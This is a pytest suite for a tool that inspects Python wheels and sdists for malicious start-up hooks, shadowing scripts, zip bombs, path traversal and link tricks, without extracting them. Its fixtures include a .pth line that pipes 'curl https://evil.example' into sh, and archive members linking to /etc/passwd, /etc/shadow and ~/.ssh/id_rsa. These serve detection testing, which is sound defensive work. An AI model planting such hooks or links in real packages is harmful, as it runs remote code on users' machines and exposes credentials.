"""Inspecting downloaded wheels and sdists without running or extracting them."""

from __future__ import annotations

import hashlib
import io
import json
import random
import stat
import tarfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from guard.artifacts import startup
from guard.artifacts.inspect_artifact import (
    ArtifactFinding as Finding,
)
from guard.artifacts.inspect_artifact import (
    Limits,
    Report,
    compare,
    inspect,
    inspect_file,
    inspect_sdist,
    inspect_wheel,
)
from guard.errors import InputError
from tests.wheels import (
    make_sdist,
    make_wheel,
    make_zip,
    member_offset,
    patch_member,
    tar_member,
    wheel_filename,
    zip_member,
)

WHL = wheel_filename("pkg", "1.0")
SDIST = "pkg-1.0.tar.gz"
CODE_PTH = b"import os; os.system('curl https://evil.example | sh')\n"
PKG = {"pkg/__init__.py": b"VALUE = 1\n"}


@pytest.fixture(autouse=True)
def _never_extract(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing in the inspection may extract a member to disk."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the inspection extracted a member")

    for cls, method in (
        (zipfile.ZipFile, "extract"),
        (zipfile.ZipFile, "extractall"),
        (tarfile.TarFile, "extract"),
        (tarfile.TarFile, "extractall"),
    ):
        monkeypatch.setattr(cls, method, refuse)


def kinds(report: Report, kind: str | None = None) -> list[tuple[str, str, str]]:
    """``(kind, path, severity)`` of the findings (of one kind)."""
    return [(f.kind, f.path, f.severity) for f in report.findings if kind in (None, f.kind)]


def hostile(report: Report) -> list[Finding]:
    return [f for f in report.findings if f.kind == "hostile-archive"]


def wheel(files: dict[str, bytes], **kwargs: Any) -> Report:
    """Inspect ``pkg-1.0`` holding ``pkg/`` and ``files``."""
    return inspect(make_wheel("pkg", "1.0", {**PKG, **files}, **kwargs), WHL)


# --------------------------------------------------------------------------- clean


def test_a_clean_wheel_has_no_findings() -> None:
    data = make_wheel("pkg", "1.0", PKG)
    report = inspect(data, WHL)
    assert report.findings == ()
    assert report.top_level == ("pkg",)
    assert report.startup_hooks == ()
    assert not report.denied
    assert report.filename == WHL
    assert report.sha256 == hashlib.sha256(data).hexdigest()
    assert json.loads(json.dumps(report.to_data()))["top_level"] == ["pkg"]


def test_top_level_lists_module_names_and_own_extras() -> None:
    report = wheel(
        {
            "pkg.py": b"",
            "_pkg_native.cpython-311-x86_64-linux-gnu.so": b"\x7fELF",
            "pkg.libs/libz.so.1": b"\x7fELF",
            "pkg_extras/__init__.py": b"",
        }
    )
    assert report.findings == ()
    assert report.top_level == ("_pkg_native", "pkg", "pkg.libs", "pkg_extras")


# --------------------------------------------------------------------------- .pth files


@pytest.mark.parametrize(
    ("member", "content", "expected", "hooks"),
    [
        ("paths.pth", b"/opt/lib\n../src\n# comment\n", [], ()),
        ("evil.pth", CODE_PTH, [("pth-exec", "evil.pth", "deny")], ("evil.pth",)),
        (
            "pkg-1.0.data/purelib/evil.pth",
            CODE_PTH,
            [("pth-exec", "pkg-1.0.data/purelib/evil.pth", "deny")],
            ("evil.pth",),
        ),
        (
            "pkg-1.0.data/platlib/evil.pth",
            CODE_PTH,
            [("pth-exec", "pkg-1.0.data/platlib/evil.pth", "deny")],
            ("evil.pth",),
        ),
        (
            "pkg-1.0.data/data/lib/python3.11/site-packages/evil.pth",
            CODE_PTH,
            [("pth-exec", "pkg-1.0.data/data/lib/python3.11/site-packages/evil.pth", "deny")],
            ("evil.pth",),
        ),
        (
            "pkg-1.0.data/data/evil.pth",  # the prefix: a site directory on Windows
            CODE_PTH,
            [("pth-exec", "pkg-1.0.data/data/evil.pth", "deny")],
            ("<prefix>/evil.pth",),
        ),
        ("odd.pth", b"exec(open('x').read())\n", [("pth-exec", "odd.pth", "warn")], ("odd.pth",)),
        ("pkg/nested.pth", CODE_PTH, [], ()),  # site reads only the top of site-packages
    ],
)
def test_pth_files(
    member: str, content: bytes, expected: list[tuple[str, str, str]], hooks: tuple[str, ...]
) -> None:
    report = wheel({member: content})
    assert kinds(report) == expected
    assert report.startup_hooks == hooks
    assert report.denied == any(severity == "deny" for _, _, severity in expected)


def test_pth_finding_names_the_line_and_its_install_target() -> None:
    (finding,) = wheel({"pkg-1.0.data/purelib/evil.pth": CODE_PTH}).findings
    assert finding.detail.startswith("line 1 runs at start-up: import os; os.system(")
    assert finding.target == "evil.pth"


def test_a_plain_pth_is_a_top_level_name() -> None:
    assert wheel({"paths.pth": b"/opt\n"}).top_level == ("paths.pth", "pkg")


def test_a_pth_over_the_read_cap_is_treated_as_code() -> None:
    report = inspect(
        make_wheel("pkg", "1.0", {**PKG, "big.pth": b"/path\n" * 100}),
        WHL,
        limits=Limits(max_pth_size=64),
    )
    (finding,) = report.findings
    assert (finding.kind, finding.severity) == ("pth-exec", "deny")
    assert "treated as code" in finding.detail
    assert report.startup_hooks == ("big.pth",)


def test_litellm_init_pth_is_known_malware_by_name() -> None:
    report = wheel({"litellm_init.pth": CODE_PTH})
    assert kinds(report) == [
        ("known-malware", "litellm_init.pth", "deny"),
        ("pth-exec", "litellm_init.pth", "deny"),
    ]


def test_known_malware_by_sha256(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(startup, "LITELLM_PTH_SHA256", hashlib.sha256(CODE_PTH).hexdigest())
    report = wheel({"renamed.pth": CODE_PTH})
    (malware,) = [f for f in report.findings if f.kind == "known-malware"]
    assert malware.path == "renamed.pth"
    assert "sha256" in malware.detail


# --------------------------------------------------------------------------- customize


@pytest.mark.parametrize(
    ("member", "hook"),
    [
        ("sitecustomize.py", "sitecustomize"),
        ("usercustomize.py", "usercustomize"),
        ("pkg-1.0.data/purelib/sitecustomize.py", "sitecustomize"),
        ("pkg-1.0.data/platlib/sitecustomize.cpython-311-x86_64-linux-gnu.so", "sitecustomize"),
        ("sitecustomize/__init__.py", "sitecustomize"),
        ("pkg-1.0.data/data/sitecustomize.py", "<prefix>/sitecustomize"),
    ],
)
def test_customize_modules(member: str, hook: str) -> None:
    report = wheel({member: b"import os\n"})
    assert kinds(report) == [("customize", member, "warn")]
    assert report.findings[0].target == hook
    assert report.startup_hooks == (hook,)
    assert dict(report.hook_sha256)[hook]  # the content was read and hashed


def test_a_customize_text_file_is_not_a_module() -> None:
    report = wheel({"sitecustomize.txt": b""})
    assert kinds(report, "customize") == []


# --------------------------------------------------------------------------- top-level names


def test_a_foreign_package_is_reported() -> None:
    report = inspect(
        make_wheel("evil", "1.0", {"evil/__init__.py": b"", "requests/__init__.py": b""}),
        wheel_filename("evil", "1.0"),
    )
    assert kinds(report) == [("foreign-top-level", "requests/__init__.py", "warn")]
    assert report.findings[0].target == "requests"
    assert report.top_level == ("evil", "requests")


@pytest.mark.parametrize(
    ("member", "target"),
    [
        ("other.py", "other"),
        ("pkgother/__init__.py", "pkgother"),  # the name must be followed by "_" or end
        ("requests-2.0.dist-info/METADATA", "requests-2.0.dist-info"),
        ("pkg-1.0.data/purelib/yaml/__init__.py", "yaml"),
    ],
)
def test_foreign_top_level_names(member: str, target: str) -> None:
    report = wheel({member: b""})
    assert kinds(report) == [("foreign-top-level", member, "warn")]
    assert report.findings[0].target == target


def test_top_level_txt_makes_names_own() -> None:
    files = {
        "yaml/__init__.py": b"",
        "_yaml/__init__.py": b"",
        "yaml_ext.cpython-311-x86_64-linux-gnu.so": b"",
    }
    report = inspect(
        make_wheel("PyYAML", "6.0", files, top_level=["yaml", "_yaml"]),
        wheel_filename("PyYAML", "6.0", "cp311-cp311-linux_x86_64"),
    )
    assert report.findings == ()
    assert report.top_level == ("_yaml", "yaml", "yaml_ext")


def test_a_second_data_directory_is_foreign() -> None:
    report = wheel({"other-1.0.data/purelib/other.py": b""})
    assert ("foreign-top-level", "other-1.0.data/", "warn") in kinds(report)


# --------------------------------------------------------------------------- scripts


@pytest.mark.parametrize(
    ("entry_points", "expected"),
    [
        ({"console_scripts": {"pip": "pkg:main"}}, ["pip"]),
        ({"console_scripts": {"python3": "pkg:main", "pkg-tool": "pkg:tool"}}, ["python3"]),
        ({"gui_scripts": {"python3.12": "pkg:main"}}, ["python3.12"]),
        ({"console_scripts": {"pkg": "pkg:main", "pipx-like": "pkg:x"}}, []),
        ({"pkg.plugins": {"pip": "pkg:plugin"}}, []),  # not a script
    ],
)
def test_console_scripts_that_shadow_commands(
    entry_points: dict[str, dict[str, str]], expected: list[str]
) -> None:
    report = wheel({}, entry_points=entry_points)
    found = kinds(report, "shadowing-script")
    assert found == [("shadowing-script", "pkg-1.0.dist-info/entry_points.txt", "warn")] * len(
        expected
    )
    assert [f.detail.rsplit(" ", 1)[-1] for f in report.findings] == expected


def test_a_distribution_may_install_its_own_command() -> None:
    report = inspect(
        make_wheel("pip", "24.0", {"pip/__init__.py": b""}, {"console_scripts": {"pip3": "x:y"}}),
        wheel_filename("pip", "24.0"),
    )
    assert report.findings == ()


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("ssh", ["data-script", "shadowing-script"]),
        ("pip3.12.exe", ["data-script", "shadowing-script"]),
        ("pkg-helper", ["data-script"]),
    ],
)
def test_data_scripts(script: str, expected: list[str]) -> None:
    member = f"pkg-1.0.data/scripts/{script}"
    report = wheel({member: b"#!/bin/sh\n"})
    assert sorted(f.kind for f in report.findings) == expected
    assert {f.path for f in report.findings} == {member}
    assert not report.denied


# --------------------------------------------------------------------------- RECORD


def test_members_missing_from_record() -> None:
    data = make_wheel("pkg", "1.0", PKG, extra=[(zip_member("pkg/added.py"), b"")])
    report = inspect(data, WHL)
    assert kinds(report) == [("record-mismatch", "pkg/added.py", "warn")]


def test_record_paths_the_wheel_does_not_contain() -> None:
    record = "pkg-1.0.dist-info/RECORD"
    text = (
        f"pkg/__init__.py,,\nrequests/__init__.py,,\n../../../bin/python,,\n{record},,\n"
    ).encode()
    files = {**PKG, "pkg-1.0.dist-info/METADATA": b"Name: pkg\n"}
    data = make_wheel("pkg", "1.0", files, record=False, extra=[(zip_member(record), text)])
    report = inspect(data, WHL)
    assert sorted(kinds(report)) == [
        ("foreign-top-level", record, "warn"),
        ("hostile-archive", record, "deny"),
        ("record-mismatch", "pkg-1.0.dist-info/METADATA", "warn"),
        ("record-mismatch", record, "warn"),
    ]


def test_a_wheel_without_record() -> None:
    report = inspect(make_wheel("pkg", "1.0", PKG, record=False), WHL)
    assert kinds(report) == [("record-mismatch", "pkg-1.0.dist-info/RECORD", "warn")]


# --------------------------------------------------------------------------- hostile zips


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("../evil.py", "path traversal"),
        ("pkg/../../evil.py", "path traversal"),
        ("/etc/passwd", "absolute path"),
        ("C:\\x", "backslash"),
        ("C:x", "drive letter"),
        ("pkg\\evil.py", "backslash"),
        ("pkg/evil\n.py", "control character"),
    ],
)
def test_hostile_member_names(name: str, problem: str) -> None:
    data = make_wheel("pkg", "1.0", PKG, extra=[(zip_member(name), b"x")])
    report = inspect(data, WHL)
    found = hostile(report)
    assert [f.severity for f in found] == ["deny"]
    assert problem in found[0].detail
    assert report.denied


def test_a_symbolic_link_member() -> None:
    link = (zip_member("pkg/link", stat.S_IFLNK | 0o777), b"/etc/passwd")
    report = inspect(make_wheel("pkg", "1.0", PKG, extra=[link]), WHL)
    assert kinds(report, "hostile-archive") == [("hostile-archive", "pkg/link", "deny")]
    assert "symbolic link" in hostile(report)[0].detail


def test_duplicate_member_names() -> None:
    extra = [(zip_member("pkg/__init__.py"), b"import os\n")]
    report = inspect(make_wheel("pkg", "1.0", PKG, extra=extra), WHL)
    assert [(f.path, f.detail) for f in hostile(report)] == [
        ("pkg/__init__.py", "duplicate member name")
    ]


def test_a_zip_bomb() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in make_wheel_members().items():
            archive.writestr(path, data)
        with archive.open("pkg/zeros.bin", "w", force_zip64=True) as handle:
            chunk = bytes(1 << 20)
            for _ in range(50):
                handle.write(chunk)
    started = time.perf_counter()
    report = inspect(buffer.getvalue(), WHL)
    assert time.perf_counter() - started < 2
    (finding,) = hostile(report)
    assert finding.path == "pkg/zeros.bin"
    assert "zip bomb" in finding.detail


def test_a_library_padded_with_zeros_is_no_zip_bomb() -> None:
    """The shape of pillow 13.0.0's pillow.libs/libXau-154567c4.so.6.0.0: 2,100,545 bytes
    that deflate to 9,389 (223:1), because auditwheel pads it to a 2 MB boundary."""
    library = b"\x7fELF" + bytes(range(256)) * 40 + bytes(2_100_545 - 4 - 10_240)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in make_wheel_members().items():
            archive.writestr(path, data)
        archive.writestr("pkg.libs/libXau-154567c4.so.6.0.0", library)
        info = archive.getinfo("pkg.libs/libXau-154567c4.so.6.0.0")
    assert info.file_size > 200 * info.compress_size  # as compressible as the real one
    assert hostile(inspect(buffer.getvalue(), WHL)) == []


def make_wheel_members() -> dict[str, bytes]:
    """The members of a small clean wheel."""
    with zipfile.ZipFile(io.BytesIO(make_wheel("pkg", "1.0", PKG))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_member_whose_header_lies_about_its_size() -> None:
    data = make_wheel("pkg", "1.0", {**PKG, "pkg/data.txt": b"x" * 1000})
    lying = patch_member(data, "pkg/data.txt", "size", 10, local=False)
    found = hostile(inspect(lying, WHL))
    assert [f.path for f in found] == ["pkg/data.txt"]
    assert "local header says 1,000 bytes" in found[0].detail


def test_a_pth_whose_headers_both_lie_is_not_trusted() -> None:
    data = make_wheel("pkg", "1.0", {**PKG, "x.pth": b"/path\n" * 20 + CODE_PTH})
    report = inspect(patch_member(data, "x.pth", "size", 12), WHL)
    assert ("hostile-archive", "x.pth", "deny") in kinds(report)  # bad CRC on reading it
    assert ("pth-exec", "x.pth", "deny") in kinds(report)  # unread: treated as code


def test_overlapping_members() -> None:
    data = make_wheel("pkg", "1.0", {**PKG, "pkg/a.py": b"a" * 100})
    overlapped = patch_member(data, "pkg/a.py", "offset", member_offset(data, "pkg/__init__.py"))
    details = [f.detail for f in hostile(inspect(overlapped, WHL))]
    assert any("local header names 'pkg/__init__.py'" in d for d in details)
    assert any("overlaps the data of" in d for d in details)


@pytest.mark.parametrize(
    ("field", "value", "problem"),
    [
        ("flags", 0x1, "encrypted member"),
        ("method", 99, "unsupported compression method 99"),
    ],
)
def test_unreadable_members(field: str, value: int, problem: str) -> None:
    data = patch_member(make_wheel("pkg", "1.0", PKG), "pkg/__init__.py", field, value)
    assert [(f.path, f.detail) for f in hostile(inspect(data, WHL))] == [
        ("pkg/__init__.py", problem)
    ]


@pytest.mark.parametrize(
    ("limits", "problem"),
    [
        (Limits(max_members=5), "more than 5 members"),
        (Limits(max_member_size=500), "1,000 bytes uncompressed (limit 500)"),
        (Limits(max_total_size=5000), "bytes uncompressed in all (limit 5,000)"),
    ],
)
def test_size_and_count_limits(limits: Limits, problem: str) -> None:
    files = {f"pkg/m{i}.py": b"#" * 1000 for i in range(10)}
    report = inspect(make_wheel("pkg", "1.0", {**PKG, **files}), WHL, limits=limits)
    assert any(problem in f.detail for f in hostile(report))
    assert report.denied


def test_findings_per_kind_are_capped() -> None:
    extra = [(zip_member(f"../evil{i}.py"), b"") for i in range(10)]
    data = make_wheel("pkg", "1.0", PKG, extra=extra)
    found = hostile(inspect(data, WHL, limits=Limits(max_findings_per_kind=3)))
    assert len(found) == 4
    assert found[0].detail == "7 more hostile-archive findings not listed"
    assert found[0].severity == "deny"


@pytest.mark.parametrize(
    ("mangle", "problem"),
    [
        (lambda data: b"not a zip at all", "not a valid zip"),
        (lambda data: b"", "not a valid zip"),
        (lambda data: data[: len(data) // 2], "not a valid zip"),
        (lambda data: data[:-10], "not a valid zip"),
        (lambda data: data[:40] + data[200:], ""),
    ],
)
def test_corrupt_wheels_are_denied_not_raised(
    mangle: Callable[[bytes], bytes], problem: str
) -> None:
    report = inspect(mangle(make_wheel("pkg", "1.0", PKG)), WHL)
    assert report.denied
    assert any(problem in f.detail for f in hostile(report))


def test_an_invalid_wheel_file_name() -> None:
    report = inspect_wheel(make_wheel("pkg", "1.0", PKG), "pkg.whl")
    assert any("not a valid wheel file name" in f.detail for f in hostile(report))


def test_unsupported_artifact_types() -> None:
    report = inspect(b"MZ", "pkg-1.0.exe")
    assert kinds(report) == [("hostile-archive", "", "deny")]
    assert "unsupported" in report.findings[0].detail


# --------------------------------------------------------------------------- sdists


@pytest.mark.parametrize("compression", ["gz", "bz2", "xz", ""])
def test_a_clean_sdist(compression: str) -> None:
    suffix = f".tar.{compression}" if compression else ".tar"
    data = make_sdist(
        "pkg", "1.0", {"pkg/__init__.py": b"", "setup.py": b""}, compression=compression
    )
    report = inspect(data, f"pkg-1.0{suffix}")
    assert report.findings == ()
    assert report.top_level == () and report.startup_hooks == ()


def test_an_internal_symlink_is_fine() -> None:
    link = tar_member("pkg-1.0/docs/LICENSE", tarfile.SYMTYPE, "../LICENSE")
    report = inspect(make_sdist("pkg", "1.0", {"LICENSE": b"MIT"}, extra=[(link, b"")]), SDIST)
    assert report.findings == ()


@pytest.mark.parametrize(
    ("member", "problem"),
    [
        (tar_member("pkg-1.0/../../evil.py"), "path traversal"),
        (tar_member("/etc/cron.d/evil"), "absolute path"),
        (tar_member("pkg-1.0/link", tarfile.SYMTYPE, "/etc/passwd"), "absolute path /etc/passwd"),
        (tar_member("pkg-1.0/link", tarfile.SYMTYPE, "../../.ssh/id_rsa"), "outside the archive"),
        (tar_member("pkg-1.0/hard", tarfile.LNKTYPE, "../outside"), "outside the archive"),
        (tar_member("pkg-1.0/hard", tarfile.LNKTYPE, "/etc/shadow"), "absolute path"),
        (tar_member("pkg-1.0/dev", tarfile.CHRTYPE), "device file"),
        (tar_member("pkg-1.0/blk", tarfile.BLKTYPE), "device file"),
        (tar_member("pkg-1.0/fifo", tarfile.FIFOTYPE), "FIFO"),
        (tar_member("pkg-1.0/setup.py"), "duplicate member name"),
    ],
)
def test_hostile_sdist_members(member: tarfile.TarInfo, problem: str) -> None:
    data = make_sdist("pkg", "1.0", {"setup.py": b""}, extra=[(member, b"x")])
    found = hostile(inspect(data, SDIST))
    assert len(found) == 1 and found[0].severity == "deny"
    assert problem in found[0].detail
    assert found[0].path == member.name


def test_a_member_written_through_a_symlink() -> None:
    extra = [
        (tar_member("pkg-1.0/d", tarfile.SYMTYPE, "sub"), b""),
        (tar_member("pkg-1.0/d/x.py"), b"x"),
    ]
    found = hostile(inspect(make_sdist("pkg", "1.0", {}, extra=extra), SDIST))
    assert [(f.path, f.detail) for f in found] == [
        ("pkg-1.0/d/x.py", "written through the symbolic link pkg-1.0/d")
    ]


@pytest.mark.parametrize(
    ("limits", "problem"),
    [
        (Limits(max_members=3), "more than 3 members"),
        (Limits(max_member_size=500), "1,000 bytes (limit 500)"),
        (Limits(max_total_size=2500), "more than 2,500 bytes uncompressed in all"),
        (Limits(max_tar_header=4096), "a tar header or read of"),
    ],
)
def test_sdist_limits(limits: Limits, problem: str) -> None:
    files = {f"m{i}.py": b"#" * 1000 for i in range(5)}
    big_pax = tar_member("pkg-1.0/pax.py")
    big_pax.pax_headers = {"comment": "x" * 100_000}
    data = make_sdist("pkg", "1.0", files, extra=[(big_pax, b"")])
    report = inspect(data, SDIST, limits=limits)
    assert [problem in f.detail for f in hostile(report)] == [True]


def test_a_negative_tar_size_cannot_loop() -> None:
    plain = bytearray(make_sdist("pkg", "1.0", {"a.py": b"x"}, compression=""))
    header = _tar_header(plain, "pkg-1.0/a.py")
    plain[header + 124 : header + 136] = b"\xff" * 12
    _fix_checksum(plain, header)
    report = inspect(bytes(plain), "pkg-1.0.tar")
    assert report.denied


def _tar_header(data: bytes, name: str) -> int:
    return data.index(name.encode())  # a member's name opens its ustar header


def _fix_checksum(data: bytearray, header: int) -> None:
    data[header + 148 : header + 156] = b" " * 8
    data[header + 148 : header + 156] = b"%06o\0 " % sum(data[header : header + 512])


def _cut_tar(data: bytes) -> bytes:
    """A plain tar that ends right after its last member, without the end-of-archive blocks."""
    end = _tar_header(data, "pkg-1.0/b.py") + 1024
    return data[:end]


def _hidden_member(data: bytes) -> bytes:
    """A plain tar whose second member has a bad checksum: tarfile stops there quietly."""
    out = bytearray(data)
    out[_tar_header(data, "pkg-1.0/a.py") + 148] ^= 1
    return bytes(out)


def _trailing_data(data: bytes) -> bytes:
    return data + b"\0" * 1024 + b"hidden" + b"\0" * 506


@pytest.mark.parametrize(
    ("mangle", "problem"),
    [
        (_cut_tar, "no end-of-archive marker"),
        (_hidden_member, "a header tarfile cannot read"),
        (_trailing_data, "data after the end of the archive"),
    ],
)
def test_tar_streams_that_other_readers_could_read_differently(
    mangle: Callable[[bytes], bytes], problem: str
) -> None:
    files = {"a.py": b"a", "b.py": b"b"}
    data = make_sdist("pkg", "1.0", files, compression="")
    assert inspect(data, "pkg-1.0.tar").findings == ()
    report = inspect(mangle(data), "pkg-1.0.tar")
    assert report.denied
    assert any(problem in f.detail for f in hostile(report))


def test_corrupt_sdists_are_denied_not_raised() -> None:
    data = make_sdist("pkg", "1.0", {f"m{i}.py": bytes(range(256)) * 40 for i in range(5)})
    for mangled in (data[: len(data) // 2], data[:-5], b"\x1f\x8b" + b"\0" * 50, b"junk"):
        report = inspect(mangled, SDIST)
        assert report.denied
        assert hostile(report)


def test_pth_in_an_sdist_is_informational() -> None:
    data = make_sdist("pkg", "1.0", {"src/hook.pth": CODE_PTH, "litellm_init.pth": CODE_PTH})
    report = inspect(data, SDIST)
    assert kinds(report) == [
        ("known-malware", "pkg-1.0/litellm_init.pth", "deny"),
        ("pth-exec", "pkg-1.0/litellm_init.pth", "warn"),
        ("pth-exec", "pkg-1.0/src/hook.pth", "warn"),
    ]
    assert report.startup_hooks == ()


def test_zip_sdists_get_the_zip_checks() -> None:
    clean = make_zip({"pkg-1.0/setup.py": b"", "pkg-1.0/pkg/__init__.py": b""})
    assert inspect_sdist(clean, "pkg-1.0.zip").findings == ()
    traversal = make_zip({"pkg-1.0/setup.py": b"", "../evil.py": b""})
    assert kinds(inspect(traversal, "pkg-1.0.zip")) == [("hostile-archive", "../evil.py", "deny")]
    assert hostile(inspect(b"PK\x03\x04junk", "pkg-1.0.zip"))


# --------------------------------------------------------------------------- compare


def approved(files: dict[str, bytes]) -> dict[str, Any]:
    """What an approval stores for ``pkg-1.0`` holding ``files`` (through JSON)."""
    return dict(json.loads(json.dumps(wheel(files).to_data())))


def test_compare_identical_versions() -> None:
    previous = approved({"hook.pth": b"import pkg\n"})
    current = inspect(make_wheel("pkg", "1.1", {**PKG, "hook.pth": b"import pkg\n"}), WHL)
    assert compare(previous, current) == []


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ({}, {"evil.pth": CODE_PTH}, [("new-startup-hook", "evil.pth", "deny")]),
        ({}, {"sitecustomize.py": b""}, [("new-startup-hook", "sitecustomize", "deny")]),
        (
            {"hook.pth": b"import pkg\n"},
            {"hook.pth": CODE_PTH},
            [("changed-startup-hook", "hook.pth", "deny")],
        ),
        ({}, {"extra.py": b""}, [("new-top-level", "extra", "warn")]),
        ({}, {"paths.pth": b"/opt\n"}, [("new-top-level", "paths.pth", "warn")]),
        ({"evil.pth": CODE_PTH}, {}, []),  # a removed hook is no risk
    ],
)
def test_compare_with_the_previous_approval(
    before: dict[str, bytes], after: dict[str, bytes], expected: list[tuple[str, str, str]]
) -> None:
    found = compare(approved(before), wheel(after))
    assert [(f.kind, f.path, f.severity) for f in found] == expected
    assert all(f.target == f.path and f.path in f.detail for f in found)


def test_compare_with_a_malformed_approval_treats_everything_as_new() -> None:
    current = wheel({"evil.pth": CODE_PTH})
    found = compare({"startup_hooks": "evil.pth", "top_level": None}, current)
    assert [(f.kind, f.path) for f in found] == [
        ("new-startup-hook", "evil.pth"),
        ("new-top-level", "pkg"),
    ]


# --------------------------------------------------------------------------- files


def test_inspect_file(tmp_path: Path) -> None:
    path = tmp_path / WHL
    path.write_bytes(make_wheel("pkg", "1.0", {**PKG, "evil.pth": CODE_PTH}))
    report = inspect_file(path)
    assert report.filename == WHL
    assert report.startup_hooks == ("evil.pth",)
    assert report == inspect(path.read_bytes(), WHL)


def test_inspect_file_too_large(tmp_path: Path) -> None:
    path = tmp_path / WHL
    path.write_bytes(b"x" * 100)
    report = inspect_file(path, limits=Limits(max_total_size=50))
    assert kinds(report) == [("hostile-archive", "", "deny")]
    assert report.sha256 == hashlib.sha256(b"x" * 100).hexdigest()


def test_inspect_file_that_is_missing(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot read it"):
        inspect_file(tmp_path / WHL)


# --------------------------------------------------------------------------- robustness


def _mutations(data: bytes, rng: random.Random) -> bytes:
    """``data`` with a few random byte flips, insertions, deletions or a truncation."""
    out = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        where = rng.randrange(len(out)) if out else 0
        action = rng.choice(("flip", "flip", "insert", "delete", "truncate", "zero-run"))
        if action == "flip" and out:
            out[where] = rng.randrange(256)
        elif action == "insert":
            out[where:where] = rng.randbytes(rng.randint(1, 8))
        elif action == "delete":
            del out[where : where + rng.randint(1, 16)]
        elif action == "truncate":
            del out[where:]
        else:
            out[where : where + 4] = b"\xff\xff\xff\xff"
    return bytes(out)


FUZZ_WHEEL = make_wheel(
    "pkg",
    "1.0",
    {
        **PKG,
        "evil.pth": CODE_PTH,
        "sitecustomize.py": b"import os\n",
        "pkg-1.0.data/scripts/ssh": b"#!/bin/sh\n",
        "pkg-1.0.data/purelib/other.py": b"",
    },
    {"console_scripts": {"pip": "pkg:main"}},
    top_level=["pkg"],
)
FUZZ_SDIST = make_sdist("pkg", "1.0", {"setup.py": b"import setuptools\n", "hook.pth": CODE_PTH})


@pytest.mark.parametrize(
    ("data", "filename", "iterations"),
    [(FUZZ_WHEEL, WHL, 300), (FUZZ_SDIST, SDIST, 150), (FUZZ_SDIST, "pkg-1.0.zip", 20)],
)
def test_random_corruption_never_raises(data: bytes, filename: str, iterations: int) -> None:
    rng = random.Random(20260324)
    assert not hostile(inspect(data, filename)) or filename.endswith(".zip")
    for _ in range(iterations):
        mutated = _mutations(data, rng)
        report = inspect(mutated, filename, limits=Limits(max_total_size=1 << 20))
        assert isinstance(report, Report)
        unexpected = [f.detail for f in report.findings if "could not be inspected" in f.detail]
        assert not unexpected, (unexpected, mutated.hex())
        json.dumps(report.to_data())


def test_structured_corruption_of_every_zip_header_field() -> None:
    """Overwrite each 2- and 4-byte field of every header with extreme values."""
    data = make_wheel("pkg", "1.0", {**PKG, "x.pth": b"import os\n"})
    headers = [i for i in range(len(data) - 4) if data[i : i + 2] == b"PK" and data[i + 2] < 8]
    for start in headers:
        for offset in range(4, 46, 2):
            for value in (b"\xff\xff", b"\x00\x00", b"\xff\xff\xff\x7f"):
                mutated = bytearray(data)
                mutated[start + offset : start + offset + len(value)] = value
                report = inspect(bytes(mutated), WHL)
                assert not [f for f in report.findings if "could not be inspected" in f.detail]
